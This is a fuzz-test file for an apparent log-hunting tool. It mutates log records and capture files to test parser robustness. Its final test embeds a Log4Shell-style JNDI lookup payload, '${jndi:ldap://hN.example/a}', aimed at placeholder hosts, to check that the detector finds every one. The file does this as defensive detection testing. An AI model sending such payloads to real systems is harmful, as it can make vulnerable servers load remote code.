import { describe, expect, test } from 'vitest'
import type { Instant } from '../../src/core/index.ts'
import type { LogContainer } from '../../src/hunt/containers/container.ts'
import { logContainers } from '../../src/hunt/containers/index.ts'
import type { LogFormat, ReadRecord } from '../../src/hunt/formats/format.ts'
import { FormatChooser } from '../../src/hunt/formats/format-chooser.ts'
import { logFormats } from '../../src/hunt/formats/index.ts'
import { RecordText } from '../../src/hunt/formats/record-text.ts'
import { oneAByte } from '../../src/hunt/one-a-byte.ts'
import { textOf } from '../../src/hunt/text-of.ts'
import { connectionOf, pcapngOf, pcapOf } from '../kit/captures.ts'
import { type Chance, chance, mutated } from '../kit/chance.ts'
import { evtxOf } from '../kit/event-log.ts'
import { bytesOf, huntIn } from '../kit/hunting.ts'

/** Mutated records of all formats, and mutated files of all containers. The seed is fixed: a failure happens again. */
const records = 180_000
const files = 20_000
const around = Date.UTC(2021, 11, 20) as Instant

describe(`${records.toLocaleString('en')} mutated records`, () => {
  const each = Math.ceil(records / logFormats.length)

  test.each(logFormats.map((format) => [format.id, format] as const))(
    'of %s are each read to an answer, and so is what lies around any place in them',
    (_id, format) => {
      const luck = chance(1)
      const chooser = new FormatChooser()
      const seen = { read: 0, refused: 0 }
      for (let i = 0; i < each; i++) {
        const example = format.examples.reads[luck.below(format.examples.reads.length)]
        if (example === undefined) break
        const bytes = mutated(bytesOf(example.record), luck)
        const text = textOf(bytes)
        const context = {
          around,
          columns: luck.below(8) === 0 ? mutatedText(example.columns, luck) : (example.columns ?? null),
        }
        const read = format.read(new RecordText(text), context)
        seen[read === null ? 'refused' : 'read']++
        if (read !== null) checked(read)
        checked(chooser.read(text, context).record)
        spanChecked(format, oneAByte(bytes), luck)
      }

      // The mutations reach both the paths that read and those that refuse.
      expect(seen.read).toBeGreaterThan(each / 100)
      expect(seen.refused).toBeGreaterThan(format.id === 'plain' ? -1 : each / 100)
    },
  )
})

function mutatedText(text: string | undefined, luck: Chance): string | null {
  return text === undefined ? null : textOf(mutated(bytesOf(text), luck))
}

/** Throws for what no record may say. */
function checked({ when, from, request, userAgent, fields }: ReadRecord): void {
  const texts = [from, request, userAgent, ...fields.flatMap(({ name, value }) => [name, value])]
  if (texts.some((text) => text !== null && typeof text !== 'string')) throw new Error('a text is none')
  if (when !== null && !Number.isFinite(when)) throw new Error('a time is none')
}

function spanChecked({ spans }: LogFormat, piece: string, luck: Chance): void {
  if (spans === undefined || piece === '') return
  spans.mayHold(piece)
  const span = spans.around(piece, luck.below(piece.length))
  if (span !== null && !(span.start >= 0 && span.start <= span.end && span.end <= piece.length))
    throw new Error(`a span from ${span.start} to ${span.end} of ${piece.length}`)
}

const request =
  'POST /a HTTP/1.1\r\nHost: a.test\r\nContent-Length: 3\r\n\r\nabcGET / HTTP/1.1\r\nUser-Agent: b\r\n\r\n'
const captured = [
  ...connectionOf(request),
  ...connectionOf(request, { from: '2001:db8::1', to: '2001:db8::2', vlan: 3 }),
]
const seeds: Readonly<Record<string, readonly Uint8Array[]>> = {
  pcap: [pcapOf(captured), pcapOf(captured, { bigEndian: true, nano: true })],
  pcapng: [pcapngOf(captured)],
  evtx: [evtxOf([{ values: { EventID: 1, Url: '/a', User: 'b' } }, { values: { EventID: 1, Url: '/c', User: 'd' } }])],
}

describe(`${files.toLocaleString('en')} mutated files`, () => {
  test.each(logContainers.map((container) => [container.id, container] as const))(
    'of %s are each read to an end, and say where every record and gap lies',
    (id, container) => {
      const luck = chance(2)
      const seen = { record: 0, gap: 0 }
      for (let i = 0; i < files / logContainers.length; i++) {
        const all = seeds[id] ?? []
        const seed = all[luck.below(all.length)]
        if (seed === undefined) break
        for (const is of readAll(container, changed(seed, luck))) seen[is]++
      }

      expect(seen.record).toBeGreaterThan(files / 100)
      expect(seen.gap).toBeGreaterThan(files / 1_000)
    },
  )
})

/** With what is read of it changed; of a large file only the part that is not empty. */
function changed(seed: Uint8Array, luck: Chance): Uint8Array {
  if (seed.length <= 4_096) return mutated(seed, luck)
  const [from, to] = [4_096 + 512, 4_096 + 512 + 2_048]
  const middle = mutated(seed.subarray(from, to), luck)
  const file = new Uint8Array(from + middle.length + 4_096)
  file.set(seed.subarray(0, from))
  file.set(middle, from)
  return file
}

function* readAll(container: LogContainer, file: Uint8Array): Generator<'record' | 'gap'> {
  const bytes = { size: file.length, read: (at: number, length: number) => file.subarray(at, at + length) }
  for (const each of container.contained(bytes)) {
    const { offset } = each.is === 'record' ? each.record : each.gap
    if (!(offset >= 0 && offset <= file.length)) throw new Error(`an offset of ${offset}`)
    if (each.is === 'record') checked(each.record)
    yield each.is
  }
}

test('attacks between 4,000 mutated lines of every format are all found', () => {
  const luck = chance(3)
  const examples = logFormats.flatMap(({ examples: { reads } }) => reads.map(({ record }) => bytesOf(record)))
  const parts: Uint8Array[] = []
  const hosts: string[] = []
  for (let i = 0; i < 4_000; i++) {
    const line = mutated(examples[luck.below(examples.length)] ?? new Uint8Array(0), luck)
    hosts.push(`h${i}.example`)
    parts.push(line, bytesOf(`\n\${jndi:ldap://h${i}.example/a}\n`))
  }
  const found = new Set(huntIn(Buffer.concat(parts)).findings.map(({ lookup }) => lookup.host))

  expect(hosts.filter((host) => !found.has(host))).toEqual([])
})
